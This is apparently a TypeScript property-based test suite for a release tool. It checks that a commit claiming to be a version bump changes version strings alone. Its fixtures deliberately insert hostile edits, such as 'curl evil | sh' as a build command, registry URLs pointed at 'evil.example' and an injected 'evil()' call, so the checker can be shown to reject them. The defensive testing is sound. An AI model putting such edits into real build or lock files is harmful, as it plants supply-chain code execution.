import { describe, expect, test } from '@jest/globals'
import '../../support/all-formats.ts'
import fc from 'fast-check'
import { editVersions } from '../../../shared/core/version-files/edit-versions.ts'
import { type BumpClaim, versionOnly, versionsBumped } from '../../../shared/core/version-files/version-only.ts'
import { inferVersionFile, type VersionFile } from '../../../shared/core/versions/version-file.ts'

type Texts = ReadonlyMap<string, string>

/** A track with one owned file of each kind, and what of it a bump changes. */
interface Case {
  readonly versionFiles: readonly VersionFile[]
  readonly texts: Readonly<Record<string, string>>
}

const CARGO: Case = {
  versionFiles: [inferVersionFile('client/Cargo.toml'), inferVersionFile('client/tauri.conf.json')],
  texts: {
    'Cargo.toml': '[workspace]\nmembers = ["client", "core"]\n',
    'client/Cargo.toml':
      '[package]\nname = "client"\nversion = "1.8.0" # ours\n\n[dependencies]\ncore = { path = "../core" }\nserde = "1.0.0"\n',
    'core/Cargo.toml': '[package]\nname = "core"\nversion = "1.8.0"\n',
    'Cargo.lock':
      'version = 4\n\n[[package]]\nname = "client"\nversion = "1.8.0"\ndependencies = [\n "core",\n "serde",\n]\n\n[[package]]\nname = "core"\nversion = "1.8.0"\n\n[[package]]\nname = "serde"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "aa"\n',
    'client/tauri.conf.json':
      '{\n  "productName": "Tray",\n  "version": "1.8.0",\n  "build": { "beforeBuildCommand": "npm run build" }\n}\n',
  },
}

const NPM: Case = {
  versionFiles: [
    inferVersionFile('lib/package.json'),
    inferVersionFile('app/package.json', { key: 'dependencies.lib' }),
  ],
  texts: {
    'package.json': '{ "private": true, "workspaces": ["lib", "app"] }\n',
    'lib/package.json': '{\n  "name": "lib",\n  "version": "1.8.0",\n  "scripts": { "postinstall": "node a.js" }\n}\n',
    'app/package.json':
      '{\n  "name": "app",\n  "private": true,\n  "version": "0.0.0",\n  "dependencies": { "lib": "^1.8.0", "left": "^1.0.0" }\n}\n',
    'package-lock.json':
      '{\n  "name": "root",\n  "lockfileVersion": 3,\n  "packages": {\n    "": { "workspaces": ["lib", "app"] },\n    "app": { "version": "0.0.0", "dependencies": { "lib": "^1.8.0", "left": "^1.0.0" } },\n    "lib": { "version": "1.8.0" },\n    "node_modules/left": { "version": "1.0.0", "resolved": "https://registry.npmjs.org/left/-/left-1.0.0.tgz", "integrity": "sha512-aa" }\n  }\n}\n',
    'pnpm-lock.yaml':
      "lockfileVersion: '9.0'\n\nimporters:\n\n  app:\n    dependencies:\n      left:\n        specifier: ^1.0.0\n        version: 1.0.0\n      lib:\n        specifier: ^1.8.0\n        version: link:../lib\n\npackages:\n\n  left@1.0.0:\n    resolution: {integrity: sha512-aa}\n",
    'yarn.lock':
      '__metadata:\n  version: 8\n\n"app@workspace:app":\n  version: 0.0.0-use.local\n  resolution: "app@workspace:app"\n  dependencies:\n    left: "npm:^1.0.0"\n    lib: "npm:^1.8.0"\n  languageName: unknown\n  linkType: soft\n\n"left@npm:^1.0.0":\n  version: 1.0.0\n  resolution: "left@npm:1.0.0"\n  checksum: aa\n  languageName: node\n  linkType: hard\n\n"lib@npm:^1.8.0, lib@workspace:lib":\n  version: 0.0.0-use.local\n  resolution: "lib@workspace:lib"\n  languageName: unknown\n  linkType: soft\n',
  },
}

const PYTHON: Case = {
  versionFiles: [inferVersionFile('py/pyproject.toml')],
  texts: {
    'py/pyproject.toml':
      '[project]\nname = "tool"\nversion = "1.8.0"\ndependencies = ["httpx==1.0.0"]\n\n[build-system]\nbuild-backend = "hatchling.build"\n',
    'py/uv.lock':
      'version = 1\n\n[[package]]\nname = "httpx"\nversion = "1.0.0"\nsource = { registry = "https://pypi.org/simple" }\n\n[[package]]\nname = "tool"\nversion = "1.8.0"\nsource = { editable = "." }\ndependencies = [{ name = "httpx" }]\n',
  },
}

const TEXT: Case = {
  versionFiles: [
    inferVersionFile('VERSION'),
    inferVersionFile('src/version.ts', { pattern: "^export const VERSION = '(.+)'$" }),
    inferVersionFile('chart/Chart.yaml', { key: 'appVersion' }),
  ],
  texts: {
    VERSION: '1.8.0\n',
    'src/version.ts': "export const VERSION = '1.8.0'\nexport const URL = 'https://example.com/1.0.0'\n",
    'chart/Chart.yaml': 'name: chart\nversion: 1.0.0\nappVersion: "1.8.0"\n',
  },
}

const CASES: readonly [name: string, given: Case][] = [
  ['Cargo and Tauri', CARGO],
  ['npm, pnpm and yarn', NPM],
  ['Python and uv', PYTHON],
  ['text, a pattern and YAML', TEXT],
]

const textsOf = ({ texts }: Case) => new Map(Object.entries(texts))
const bump = ({ versionFiles }: Case, texts: Texts, version: string) =>
  new Map([...texts, ...editVersions(versionFiles, texts, version)])
/** What an editor or an attacker writes: some words, lines that mean something, and bytes that hide. */
const WORDS = [
  'x',
  ' ',
  '\n',
  '"',
  '1',
  '-',
  '[features]\ndefault = ["evil"]\n',
  ', "evil": 1',
  '\u202e',
  '\r\n',
  '#',
  'é',
]

describe.each(CASES)('%s', (_, given) => {
  const before = textsOf(given)
  const after = bump(given, before, '1.8.1')
  const written = [...after.keys()].filter((path) => after.get(path) !== before.get(path))

  test('each file that a bump writes differs in versions alone, from channel to channel and over several bumps', () => {
    expect(written.length).toBeGreaterThanOrEqual(given === PYTHON ? 2 : 3)
    expect(versionOnly([given], before, after)).toEqual(new Set(written))
    const later = bump(given, bump(given, after, '1.9.0-alpha.3'), '1.9.0-beta.1')
    expect(versionOnly([given], before, later)).toEqual(new Set(written))
    expect(versionOnly([given], after, after)).toEqual(new Set())
  })

  test.each(written)('incident 34: nothing else that is written into %s beside the version passes for one', (path) => {
    const text = after.get(path) as string
    const change = fc.record({
      at: fc.nat({ max: text.length }),
      cut: fc.nat({ max: 12 }),
      word: fc.oneof(fc.constantFrom(...WORDS), fc.string({ maxLength: 8 })),
    })
    fc.assert(
      fc.property(fc.array(change, { minLength: 1, maxLength: 2 }), (changes) => {
        const edited = changes.reduce((now, { at, cut, word }) => now.slice(0, at) + word + now.slice(at + cut), text)
        // Another version is one, too, where it stands in every file that has it.
        const isVersion = versionsIn(edited).some((version) => bumpOr(given, before, version).get(path) === edited)
        fc.pre(edited !== text && edited !== before.get(path) && !isVersion)
        expect(versionOnly([given], before, new Map([...after, [path, edited]])).has(path)).toBe(false)
      }),
      { numRuns: 300 },
    )
  })

  test.each(written)('incident 34: %s with an old line taken away or two lines swapped does not pass', (path) => {
    const lines = (after.get(path) as string).split('\n')
    const [swapped, shorter] = [[...lines], lines.slice(0, -2)]
    if (lines.length > 2) [swapped[0], swapped[1]] = [lines[1] as string, lines[0] as string]
    for (const edited of [swapped, shorter].map((each) => each.join('\n'))) {
      if (edited === after.get(path)) continue
      expect(versionOnly([given], before, new Map([...after, [path, edited]])).has(path)).toBe(false)
    }
  })
})

function versionsIn(text: string): string[] {
  return text.match(/\d+\.\d+\.\d+(?:[-+][0-9A-Za-z.+-]+)?/g) ?? []
}

function bumpOr(given: Case, texts: Texts, version: string): Texts {
  try {
    return bump(given, texts, version)
  } catch {
    return texts
  }
}

test.each<[string, Case, string, string, string]>([
  ['a feature', CARGO, 'client/Cargo.toml', '# ours\n', '# ours\n\n[features]\ndefault = ["evil"]\n'],
  ['another dependency', CARGO, 'client/Cargo.toml', 'serde = "1.0.0"', 'serde = "1.8.1"'],
  ['another source', CARGO, 'Cargo.lock', 'checksum = "aa"', 'checksum = "bb"'],
  ['another locked version', CARGO, 'Cargo.lock', 'version = "1.0.0"', 'version = "1.8.1"'],
  ['a command', CARGO, 'client/tauri.conf.json', 'npm run build', 'curl evil | sh'],
  ['a script', NPM, 'lib/package.json', 'node a.js', 'node b.js'],
  ['another range', NPM, 'app/package.json', '"left": "^1.0.0"', '"left": "^1.8.1"'],
  ['a range that is not a bump', NPM, 'app/package.json', '"lib": "^1.8.1"', '"lib": "git+https://evil/lib#1.8.1"'],
  ['a locked address', NPM, 'package-lock.json', 'registry.npmjs.org', 'evil.example'],
  ['a locked integrity', NPM, 'pnpm-lock.yaml', 'sha512-aa', 'sha512-bb'],
  ['a locked checksum', NPM, 'yarn.lock', 'checksum: aa', 'checksum: bb'],
  ['a Python dependency', PYTHON, 'py/pyproject.toml', 'httpx==1.0.0', 'httpx==1.8.1'],
  ['a build backend', PYTHON, 'py/pyproject.toml', 'hatchling.build', 'evil'],
  ['a locked registry', PYTHON, 'py/uv.lock', 'pypi.org', 'evil.example'],
  ['a second line', TEXT, 'VERSION', '1.8.1\n', '1.8.1\n1.8.1\n'],
  ['code instead of a version', TEXT, 'src/version.ts', "'1.8.1'", "'1.8.1' + evil() + ''"],
  ['code beside it', TEXT, 'src/version.ts', 'example.com', 'evil.example'],
  ['another key of the same value', TEXT, 'chart/Chart.yaml', 'version: 1.0.0', 'version: 1.8.1'],
])('incident 34: beside a bump, %s is a change', (_, given, path, from, to) => {
  const before = textsOf(given)
  const after = bump(given, before, '1.8.1')
  const text = after.get(path) as string
  expect(text).toContain(from)
  expect(versionOnly([given], before, after).has(path)).toBe(true)
  expect(versionOnly([given], before, new Map([...after, [path, text.replace(from, to)]])).has(path)).toBe(false)
})

test('a lock that only follows what the files say already is one, a file that is new or gone is none', () => {
  const texts = textsOf(CARGO)
  const behind = new Map([...texts, ['Cargo.lock', (texts.get('Cargo.lock') as string).replace('1.8.0', '1.7.0')]])
  expect(versionOnly([CARGO], behind, texts)).toEqual(new Set(['Cargo.lock']))
  const without = new Map([...texts].filter(([path]) => path !== 'Cargo.lock'))
  expect(versionOnly([CARGO], without, texts)).toEqual(new Set())
  expect(versionOnly([CARGO], texts, without)).toEqual(new Set())
})

test('of two tracks that share a lock each bumps its own lines, together or one by one', () => {
  const core = { versionFiles: [inferVersionFile('core/Cargo.toml')] }
  const before = textsOf(CARGO)
  const client = bump(CARGO, before, '1.8.1')
  const both = new Map([...client, ...editVersions(core.versionFiles, client, '2.0.0-alpha.1')])
  expect(versionOnly([CARGO, core], before, client).has('Cargo.lock')).toBe(true)
  expect(versionOnly([CARGO, core], client, both)).toEqual(new Set(['core/Cargo.toml', 'Cargo.lock']))
  expect(versionOnly([CARGO, core], before, both).has('Cargo.lock')).toBe(true)
  expect(versionOnly([CARGO], before, both).has('Cargo.lock')).toBe(false)
})

describe('incident 34: a commit that says it is a bump is one where it writes what a release writes', () => {
  const track = { versionFiles: CARGO.versionFiles, versionStyle: 'full' as const }
  const before = textsOf(CARGO)
  const all = ['client/Cargo.toml', 'client/tauri.conf.json', 'Cargo.lock']
  const bumped = (tracks: BumpClaim['tracks'], before: Texts, after: Texts) =>
    versionsBumped({ tracks, isMerge: false }, before, after)

  test.each(['1.8.1', '1.8.1-alpha.1', '1.9.0-beta.2', '2.0.0'])('all version files and the lock at %s', (version) => {
    expect(bumped([track], before, bump(CARGO, before, version))).toEqual(new Set(all))
  })

  test('an alpha after the beta of its X.Y.Z is below it', () => {
    const beta = bump(CARGO, before, '1.9.0-beta.2')
    expect(bumped([track], beta, bump(CARGO, beta, '1.9.0-alpha.3'))).toEqual(new Set(all))
    expect(bumped([track], beta, bump(CARGO, beta, '1.9.0-beta.1'))).toEqual(new Set())
  })

  test.each(['1.7.9', '1.8.0-alpha.1', '9.9.9+build', '1.9.0-alpha', '1.9'])('%s is none', (version) => {
    const written = new Map([...before].map(([path, text]) => [path, text.replaceAll('1.8.0', version)]))
    expect(bumped([track], before, written)).toEqual(new Set())
  })

  test.each(all.slice(0, 2))('nor is a version in %s alone', (path) => {
    const after = bump(CARGO, before, '1.8.1')
    const one = new Map([...before, [path, after.get(path) as string]])
    expect(bumped([track], before, one)).toEqual(new Set())
  })

  test('nor a version file that is gone, nor a suffix where files carry X.Y.Z', () => {
    const after = bump(CARGO, before, '1.8.1-alpha.1')
    const without = new Map([...after].filter(([path]) => path !== 'client/tauri.conf.json'))
    expect(bumped([track], before, without)).toEqual(new Set())
    expect(bumped([{ ...track, versionStyle: 'core' }], before, after)).toEqual(new Set())
  })

  test('a build number goes up by one in a bump, and by what several releases added in a merge', () => {
    const tracks = [{ versionFiles: [inferVersionFile('pubspec.yaml')], versionStyle: 'core' as const }]
    const at = (version: string) => new Map([['pubspec.yaml', `name: app\nversion: ${version}\n`]])
    const isBump = (version: string, isMerge: boolean) =>
      versionsBumped({ tracks, isMerge }, at('1.0.0+41'), at(version)).size > 0
    const versions = ['1.0.1+42', '1.0.0+42', '1.0.1+41', '1.0.1+43', '1.0.1+2147483647']
    expect(versions.map((version) => isBump(version, false))).toEqual([true, true, false, false, false])
    expect(versions.map((version) => isBump(version, true))).toEqual([true, true, true, true, true])
  })
})
